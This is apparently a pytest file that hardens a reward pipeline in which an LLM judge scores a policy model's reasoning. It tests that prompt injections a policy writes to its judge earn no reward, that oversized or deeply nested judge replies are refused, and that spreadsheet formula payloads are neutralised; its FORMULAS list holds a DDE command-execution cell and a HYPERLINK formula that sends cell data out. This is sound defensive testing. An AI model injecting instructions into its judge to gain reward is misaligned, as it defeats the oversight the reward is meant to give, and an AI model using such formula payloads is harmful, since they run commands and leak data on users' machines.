"""Hostile texts, as kinds: injections, replies, formulas, and what would take for ever."""

from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from annotate.cot import lexicon
from configs.sweep import MetricConfig
from data.parsing import MAX_CHARS, TAGS, parse_output
from data.prosody.quotes import without_quotes
from report.formats import csv_text, from_csv_text
from report.sweep_results import RunResult, SweepResults, read_results, write_results
from rewards.judges.base import JudgeContext, JudgeError
from rewards.judges.http import HttpJudge
from rewards.judges.injections import injections
from rewards.judges.prompt import MAX_REASONING_CHARS, parse_scores, sanitize
from rewards.reasoning import ReasoningReward
from tests.judge_server import HUGE_REPLY_BYTES, always, obedient, running
from tests.unit.make_groups import make_group

# Text of the policy that speaks to the judge.

INJECTIONS = injections()
PLACES = {
    "alone": "{}",
    "at the end": "The pitch is high and the pace is slow. {}",
    "at the beginning": "{}\nThe pitch is high and the pace is slow.",
    "in the middle": "The pitch is high. {} The pace is slow.",
    "after much else": "The pitch is high. " * 150 + "{}",
}


@pytest.mark.slow
@pytest.mark.parametrize(
    "place",
    [
        pytest.param(
            place,
            id=place,
            marks=pytest.mark.fault(
                f"a policy tells the judge what to score, in {len(INJECTIONS)} ways, {place}",
                happens="a judge that obeys whatever reaches it gives what it gives to any text",
                lost="nothing",
            ),
        )
        for place in PLACES
    ],
)
def test_no_injection_pays(place: str):
    assert len(INJECTIONS) >= 30
    texts = [PLACES[place].format(text) for text in INJECTIONS]
    plain = "The pitch is high and the pace is slow."
    group = make_group([f"<think>{t}</think><answer>sad</answer>" for t in [plain, *texts]])
    with running(obedient) as server:
        options = {"url": server.url, "model": "m", "deadline_s": 60.0}
        reward = ReasoningReward("rewards.judges.http:HttpJudge", options)
        expected, *values = reward.score(group).values
    assert expected == pytest.approx(2 / 5)
    judged = [value for value in values if value is not None]
    # Texts with tags or chat tokens are no reasoning at all: they reach no judge.
    assert judged == [expected] * len(judged) and len(judged) >= 30


@pytest.mark.fault(
    "a judge's server sends 50 MB",
    happens="no more is read than a reply may have; the score is missing",
    lost="one score",
)
def test_a_gigantic_reply_is_not_read():
    with running(always("huge")) as server:
        judge = HttpJudge(JudgeContext(""), url=server.url, model="m", max_attempts=1)
        (found,) = judge.judge(make_group(["x"]).prompt, ["The pitch is high."])
        judge.close()
        assert found.missing == "reply too large"
        assert 0 < server.bytes_sent < HUGE_REPLY_BYTES / 5  # what the sockets hold


NESTED = {
    "lists": "[" * 10_000 + "]" * 10_000,
    "objects": '{"a":' * 10_000 + "1" + "}" * 10_000,
    "open lists": "[" * 10_000,
}


@pytest.mark.fault(
    "a judge's reply is nested 10,000 deep",
    happens="the score is missing, with the reason; no parser recurses into it",
    lost="one score",
)
@pytest.mark.parametrize("kind", NESTED)
@pytest.mark.parametrize("way", ["raw", "text"])
def test_a_nested_reply_is_no_score(kind: str, way: str):
    with running(always(f"{way} {NESTED[kind]}")) as server:
        judge = HttpJudge(JudgeContext(""), url=server.url, model="m", max_attempts=1)
        (found,) = judge.judge(make_group(["x"]).prompt, ["The pitch is high."])
        judge.close()
    reasons = ("not a chat completion", "nested json", "reply too long", "reply too large")
    assert found.missing in reasons
    with pytest.raises(JudgeError):
        parse_scores(NESTED[kind][:900])


# Cells of tables.

FORMULAS = [
    '=cmd|"/c calc"!A0',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "'=1",
    '=HYPERLINK("http://h/?"&A1,"x")',
]


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(
            text,
            id=str(number),
            marks=pytest.mark.fault(
                "a name in results.csv is a formula",
                happens="an apostrophe stands before it: text to every spreadsheet; numbers stay",
                lost="nothing: it is read back as it was",
            ),
        )
        for number, text in enumerate(FORMULAS)
    ],
)
def test_a_table_holds_no_formula(tmp_path: Path, text: str):
    runs = [
        RunResult("a", text, 0, "done", 1.5, {"x/y": -0.25, text: 1e-9}),
        RunResult("b", "plain", 1, f"{text}: failed", None, {}),
    ]
    results = SweepResults("s", 2, 1, "", {"x/y": "y", text: "z"}, runs)
    write_results(tmp_path, results)
    with (tmp_path / "results.csv").open(newline="") as file:
        head, first, second = csv.reader(file)
    for cell in (head[-1], first[1], second[3]):
        assert cell.startswith("'" + text)
    assert first[-2:] == ["-0.25", "1e-09"] and first[4] == "1.5"
    assert read_results(tmp_path) == results


@given(st.text(st.sampled_from("=+-@\t\r\n' \uff1dab1")))
def test_a_guarded_text_is_no_formula_and_comes_back(text: str):
    cell = csv_text(text)
    assert from_csv_text(cell) == text
    assert not cell or cell.lstrip()[:1] not in set("=+-@\uff1d")
    assert MetricConfig(key=text).key == text


# Texts that would take for ever: counted, not timed.


class Counted(str):
    """A text that counts how many of its characters are looked at."""

    looked_at = 0

    def find(self, *arguments: Any) -> int:  # type: ignore[override]
        place = super().find(*arguments)
        begin = arguments[1] if len(arguments) > 1 else 0
        self.looked_at += (place if place >= 0 else len(self)) - begin + 1
        return place

    def count(self, *arguments: Any) -> int:  # type: ignore[override]
        self.looked_at += len(self)
        return super().count(*arguments)

    def __getitem__(self, place: Any) -> str:
        part = super().__getitem__(place)
        self.looked_at += len(part)
        return part


BOMBS = {
    "a megabyte": "x" * 1_000_000,
    "20,000 tags": "<think>" * 20_000,
    "as many tags as are looked at": "<think></think>" * (MAX_CHARS // 15),
    "a million digits": "1" * 1_000_000,
    "digits in the answer": f"<think>a</think><answer>{'1' * 90_000}</answer>",
    "halves of special tokens": "<|" * (MAX_CHARS // 2),
    "brackets": "<" * MAX_CHARS,
    "quotes": "\u201c" * MAX_CHARS,
    "both quotes": '"\u201c' * (MAX_CHARS // 2) + "\u201d",
}


@pytest.mark.parametrize(
    "kind",
    [
        pytest.param(
            kind,
            id=kind,
            marks=pytest.mark.fault(
                f"a completion is {kind}",
                happens="every character is looked at a few times at most, or not at all",
                lost="nothing",
            ),
        )
        for kind in BOMBS
    ],
)
def test_a_text_is_looked_at_a_bounded_number_of_times(kind: str):
    text = Counted(BOMBS[kind])
    parsed = parse_output(text)
    passes = 3 + 2 * len(TAGS)  # special tokens, the tags, the bodies
    assert text.looked_at <= passes * len(text)
    if len(text) > MAX_CHARS:
        assert (parsed.reason, text.looked_at) == ("too long", 0)
    text = Counted(BOMBS[kind])
    without_quotes(text)
    assert text.looked_at <= 4 * len(text) + 4
    text = Counted(BOMBS[kind])
    sanitize(text)
    assert text.looked_at <= MAX_REASONING_CHARS


_QUOTED = re.compile(r'"[^"]*"|\u201c[^\u201c\u201d]*[\u201c\u201d]|\u201d[^\u201d]*\u201d')


@given(st.text(st.sampled_from('"\u201c\u201dab ')))
def test_quotes_are_blanked_as_by_their_definition(text: str):
    assert without_quotes(text) == _QUOTED.sub(lambda found: " " * len(found[0]), text)


@pytest.mark.fault(
    "a server's reasoning is one emotion word after another",
    happens="a bounded number of characters is looked at for each of them",
    lost="nothing",
)
def test_a_negation_is_looked_for_nearby(monkeypatch: pytest.MonkeyPatch):
    searched: list[int] = []
    pattern = lexicon._NEGATION

    class Recorder:
        def search(self, text: str) -> Any:
            searched.append(len(text))
            return pattern.search(text)

    monkeypatch.setattr(lexicon, "_NEGATION", Recorder())
    labels = ["angry", "sad"]
    mentions = lexicon.find_mentions("angry " * 10_000 + "It is rather than a so so sad.", labels)
    assert len(mentions) == 10_000 and len(searched) == 10_001
    assert max(searched) <= lexicon._NEGATION_REACH


@pytest.mark.parametrize("gap", range(0, 30))
@pytest.mark.parametrize("word", ["instead of", "not", "rather than", "absence of"])
def test_a_negation_reaches_as_far_as_before(word: str, gap: int):
    text = f"Now and then {word}{' ' * gap}sad"
    denied = bool(lexicon._NEGATION.search(text[: text.index("sad")]))
    assert bool(lexicon.find_mentions("x" * 100 + text, ["sad"])) != denied
